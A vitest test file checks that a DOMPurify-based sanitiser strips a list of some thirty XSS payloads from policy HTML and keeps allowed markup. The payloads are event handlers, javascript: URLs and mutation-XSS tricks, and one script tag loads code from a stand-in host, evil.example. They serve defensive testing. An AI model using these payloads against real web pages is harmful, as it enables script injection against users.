import type { WindowLike } from 'dompurify';
import { describe, expect, it } from 'vitest';
import { POLICY_ALLOW_LIST, sanitize } from '../../scripts/content/sanitize';

const XSS_PAYLOADS = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload="window.__pwned=1"></svg>',
  '<iframe src="javascript:window.__pwned=1"></iframe>',
  '<object data="javascript:window.__pwned=1"></object>',
  '<embed src="javascript:window.__pwned=1">',
  '<form action="javascript:window.__pwned=1"><input type="submit"></form>',
  '<input autofocus onfocus="window.__pwned=1">',
  '<p onclick="window.__pwned=1">click</p>',
  '<p onmouseover="window.__pwned=1">hover</p>',
  '<a href="javascript:window.__pwned=1">link</a>',
  '<body onload="window.__pwned=1">',
  '<style>@import "javascript:alert(1)"</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
  '<details open ontoggle="window.__pwned=1">',
  '<video><source onerror="window.__pwned=1"></video>',
  '<audio src=x onerror="window.__pwned=1">',
  '<marquee onstart="window.__pwned=1">',
  '<div style="background:url(javascript:window.__pwned=1)">x</div>',
  '<scr<script>ipt>window.__pwned=1</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img """><script>window.__pwned=1</script>">',
  '<p><strong onmouseover=window.__pwned=1>bold</strong></p>',
  '<li><em onerror=window.__pwned=1>x</em></li>',
  '<base href="javascript:/a/-alert(1)///////">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
  '<link rel=import href="data:text/html,<script>window.__pwned=1</script>">',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
  '<template><script>window.__pwned=1</script></template>',
  '<isindex action=javascript:window.__pwned=1 type=submit>',
  '<textarea><script>window.__pwned=1</script></textarea>',
  '<select><option><img src=x onerror=window.__pwned=1></option></select>',
];

const purifyWindow = window as unknown as WindowLike;

describe('policy HTML sanitising (DOMPurify under jsdom)', () => {
  it.each(XSS_PAYLOADS)('neutralises %s', (payload) => {
    const clean = sanitize(`<p>Before</p>${payload}<p>After</p>`, POLICY_ALLOW_LIST, purifyWindow);
    const host = document.createElement('div');
    host.innerHTML = clean;
    document.body.append(host);
    expect(host.querySelectorAll('script, iframe, object, embed, form, input, img, svg, style, a').length).toBe(0);
    for (const element of host.querySelectorAll('*')) {
      expect([...element.attributes].map((attribute) => attribute.name).filter((name) => name !== 'class')).toEqual([]);
    }
    expect((window as unknown as { __pwned?: number }).__pwned).toBeUndefined();
    host.remove();
  });

  it('keeps the allowed structure and classes', () => {
    const html = '<p class="lead">Hi <strong>there</strong> <em>you</em><br></p><ul><li>a</li></ul><ol><li>b</li></ol>';
    expect(sanitize(html, POLICY_ALLOW_LIST, purifyWindow)).toBe(html);
  });
});
